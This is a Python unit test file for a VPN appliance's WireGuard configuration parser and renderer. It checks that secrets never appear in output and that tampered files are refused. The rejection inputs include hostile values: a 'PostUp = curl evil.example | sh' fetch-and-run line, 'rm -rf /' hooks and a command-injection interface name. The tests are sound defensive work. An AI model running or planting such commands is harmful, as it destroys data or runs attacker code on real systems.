"""What WireGuard is told, and what is taken for its configuration."""

from __future__ import annotations

from dataclasses import replace
from ipaddress import ip_address, ip_interface

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import ValidationError

from appliance.vpn.addresses import AddressPlan
from appliance.vpn.config import (
    Endpoint,
    HubPart,
    MemberPart,
    Peer,
    Tunnel,
    VpnSettings,
    hub_tunnel,
    member_tunnel,
    parse,
    render,
    render_hidden,
    render_peers,
)
from appliance.vpn.errors import ConfigInvalidError
from appliance.vpn.keys import PresharedKey, PrivateKey
from tests.unit.vpn.conftest import HUB_KEY, NETWORKS, NORTH, SOUTH

SHARED = PresharedKey(b"p" * 32)
ENDPOINTS = ["vpn.example.org:51820", "192.0.2.1:1", "[2001:db8::1]:65535", "hub:51820"]
PARTS = ["", "[Peer]", "[Interface]", "x", "PostUp = reboot", "AllowedIPs = 0.0.0.0/0"]
_keys = st.binary(min_size=32, max_size=32).filter(any)


@st.composite
def tunnels(draw) -> Tunnel:
    """Any tunnel that could be a hub's or a member's."""
    peers = [
        Peer(
            name=f"member-{number}",
            public_key=PrivateKey(draw(_keys)).public,
            preshared_key=PresharedKey(draw(_keys)),
            addresses=(ip_address(f"100.80.0.{number + 2}"), ip_address(f"fd42::{number + 2:x}")),
            endpoint=draw(st.sampled_from([None, *map(Endpoint.parse, ENDPOINTS)])),
            keepalive_s=draw(st.sampled_from([None, 25])),
        )
        for number in range(draw(st.integers(0, 4)))
    ]
    peers = list({peer.public_key: peer for peer in peers}.values())
    addresses = (ip_interface("100.80.0.1/24"), ip_interface("fd42::1/64"))
    port = draw(st.one_of(st.none(), st.integers(1, 65535)))
    return Tunnel(PrivateKey(draw(_keys)), addresses, draw(st.integers(1280, 9000)), port, tuple(peers))


def member(**changes: object) -> MemberPart:
    """A member's settings."""
    return MemberPart(
        **{"addresses": ("100.80.0.2",), "hub_public_key": HUB_KEY.public, "hub_endpoints": ENDPOINTS[:1]} | changes
    )


@pytest.fixture
def north(plan: AddressPlan) -> Tunnel:
    """A member's tunnel."""
    settings = member(addresses=("100.80.0.2", "fd42:6665:6477::2"), hub_endpoints=("192.0.2.1:51820",))
    return member_tunnel(settings, 1380, plan, NORTH, SHARED)


@given(tunnels())
def test_what_is_written_is_read(tunnel: Tunnel) -> None:
    """An entry that goes bad falls back on this file."""
    assert parse(render(tunnel)) == tunnel


@given(tunnels())
def test_people_see_no_secret(tunnel: Tunnel) -> None:
    """Neither in what is rendered for them nor in an object that ends in a log."""
    shown = render_hidden(tunnel) + repr(tunnel) + str(tunnel) + repr(tunnel.peers)
    secrets = [tunnel.private_key.reveal(), *(peer.preshared_key.reveal() for peer in tunnel.peers)]

    assert [each for each in secrets if each in shown] == []


@given(tunnels(), st.data())
def test_a_damaged_file_is_read_or_refused(tunnel: Tunnel, data) -> None:
    """No damage ends in anything else, and a refusal repeats no secret."""
    lines = render(tunnel).split("\n")
    for _ in range(data.draw(st.integers(1, 3))):
        at = data.draw(st.integers(0, len(lines) - 1))
        part = data.draw(
            st.sampled_from(["", "[Peer]", "[Interface]", "x", "PostUp = rm -rf /", "AllowedIPs = 0.0.0.0/0"])
        )
        lines[at] = data.draw(
            st.sampled_from([part, lines[at] + part, lines[at][: len(lines[at]) // 2], part + lines[at]])
        )
    try:
        found = parse("\n".join(lines))
    except ConfigInvalidError as error:
        secrets = [tunnel.private_key.reveal(), *(peer.preshared_key.reveal() for peer in tunnel.peers)]
        assert [each for each in secrets if each in str(error)] == []
    else:
        assert parse(render(found)) == found


@pytest.mark.parametrize("text", ["", "hello", "PrivateKey = x", "[Interface]", "[Peer]\n", "\0", "# only a comment\n"])
def test_what_the_package_would_take_for_a_configuration_is_refused(text: str) -> None:
    """Its parser takes a file without any section."""
    with pytest.raises(ConfigInvalidError):
        parse(text)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("MTU = 1380\n", ""),
        ("MTU = 1380", "MTU = 1380\nMTU = 1400"),
        ("MTU = 1380", "MTU = much"),
        ("MTU = 1380", "MTU=1380"),
        ("Table = off", "PostUp = curl evil.example | sh"),
        ("Table = off", "DNS = 192.0.2.9"),
        ("[Peer]", "[Interface]"),
        ("[Peer]", "[peer]"),
        ("100.80.0.1/32", "100.80.0.0/24"),
        ("100.80.0.1/32", "everywhere"),
        ("# friendly_name = hub", "# friendly_name = hub # and more"),
        ("# friendly_name = hub", "# friendly_name = ../hub"),
        ("# friendly_name = hub\n", ""),
        ("Endpoint = 192.0.2.1:51820", "Endpoint = 192.0.2.1"),
        (f"PublicKey = {HUB_KEY.public}", f"PublicKey = {HUB_KEY.public[:-1]}"),
    ],
)
def test_one_wrong_line_is_refused(north: Tunnel, old: str, new: str) -> None:
    """Nothing but what we write is ours."""
    text = render(north)
    assert text.count(old) == 1
    with pytest.raises(ConfigInvalidError):
        parse(text.replace(old, new))


def test_a_peer_that_stands_twice_is_refused(north: Tunnel) -> None:
    """The package would silently keep the last one."""
    other = replace(north.peers[0], name="other")

    with pytest.raises(ConfigInvalidError, match="the same PublicKey"):
        parse(render(north) + render_peers((other,)))


def test_a_member_has_one_peer_with_the_hubs_addresses_alone(north: Tunnel) -> None:
    """So it takes nothing from another member, whatever the hub passes on."""
    (hub,) = north.peers

    assert [str(address) for address in hub.addresses] == ["100.80.0.1", "fd42:6665:6477::1"]
    assert render(north).count("AllowedIPs = ") == 2
    assert "AllowedIPs = 100.80.0.1/32\nAllowedIPs = fd42:6665:6477::1/128\n" in render(north)
    assert "PersistentKeepalive = 25\n" in render(north)


def test_a_member_without_ipv6_has_none_of_the_hubs(plan: AddressPlan) -> None:
    """Some hospitals switch it off."""
    tunnel = member_tunnel(member(), 1420, plan, NORTH, SHARED)

    assert ":" not in render(tunnel).split("PersistentKeepalive")[1]


def test_the_hub_gives_each_member_its_own_addresses_alone(settings: VpnSettings, plan: AddressPlan) -> None:
    """A member cannot speak in another's name; and the order of entries changes nothing."""
    peers = tuple(
        Peer(name, key.public, SHARED, (ip_address(address),))
        for name, key, address in (("south", SOUTH, "100.80.0.3"), ("north", NORTH, "100.80.0.2"))
    )
    text = render(hub_tunnel(settings, plan, HUB_KEY, peers))

    assert text == render(hub_tunnel(settings, plan, HUB_KEY, peers[::-1]))
    assert [line for line in text.split("\n") if line.startswith("AllowedIPs")] == [
        "AllowedIPs = 100.80.0.2/32",
        "AllowedIPs = 100.80.0.3/32",
    ]
    assert "ListenPort = 51820\n" in text
    assert "Endpoint" not in text


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_an_endpoint_is_read_as_it_is_written(endpoint: str) -> None:
    """An IPv6 address keeps its brackets, which the package would drop."""
    assert str(Endpoint.parse(endpoint)) == endpoint


def test_a_name_does_not_stand_in_the_file(plan: AddressPlan) -> None:
    """wg-quick gives up at boot when it does not resolve yet; an address is there at once."""
    by_name = member_tunnel(member(), 1420, plan, NORTH, SHARED)
    by_address = member_tunnel(member(hub_endpoints=("[2001:db8::1]:51820",)), 1420, plan, NORTH, SHARED)

    assert "Endpoint" not in render(by_name)
    assert "Endpoint = [2001:db8::1]:51820\n" in render(by_address)


@pytest.mark.parametrize(
    "endpoint",
    [
        *("", ":51820", "x.org", "x.org:0", "x.org:65536", "x.org:1e3", "a b:1", "-x.org:1", "a\n.org:1", "x..y:1"),
        *("2001:db8::1:51820", "[2001:db8::1]", "[fe80::1%eth0]:51820", "0.0.0.0:51820", "192.0.2.999:1"),
    ],
)
def test_what_is_no_endpoint_is_refused(endpoint: str) -> None:
    """Before it gets into a file that a root process reads."""
    with pytest.raises(ValueError):
        Endpoint.parse(endpoint)


@pytest.mark.parametrize(
    "changes",
    [
        {"addresses": ("100.80.0.1",)},
        {"addresses": ("10.1.2.3",)},
        {"hub_public_key": NORTH.public},
        {"hub_public_key": "x"},
    ],
)
def test_a_members_settings_fit_the_plan(plan: AddressPlan, changes: dict[str, object]) -> None:
    """The message names the setting."""
    with pytest.raises(ConfigInvalidError, match=f"vpn.toml: member.{next(iter(changes))}"):
        member_tunnel(member(**changes), 1420, plan, NORTH, SHARED)


@pytest.mark.parametrize(
    ("changes", "place"),
    [
        ({"interface": "Fedward0"}, "interface"),
        ({"interface": "a; rm -rf /"}, "interface"),
        ({"interface": "sixteen-letters0"}, "interface"),
        ({"mtu": 1279}, "mtu"),
        ({"mtu": 65536}, "mtu"),
        ({"networks": ["100.80.0.1/24"]}, "networks"),
        ({"routed": ["ten"]}, "routed"),
        ({"post_up": "reboot"}, "post_up"),
        ({"hub": {"listen_port": 0}}, "hub"),
        ({"hub": None}, ""),
        ({"member": member()}, ""),
    ],
)
def test_settings_are_checked_before_anything_is_done(changes: dict[str, object], place: str) -> None:
    """A wrong type, an unknown name, a host that is both or neither."""
    with pytest.raises(ValidationError) as caught:
        VpnSettings(**{"networks": NETWORKS, "hub": HubPart()} | changes)
    assert caught.value.error_count() >= 1
    assert {str(fault["loc"][0]) if fault["loc"] else "" for fault in caught.value.errors()} == {place}
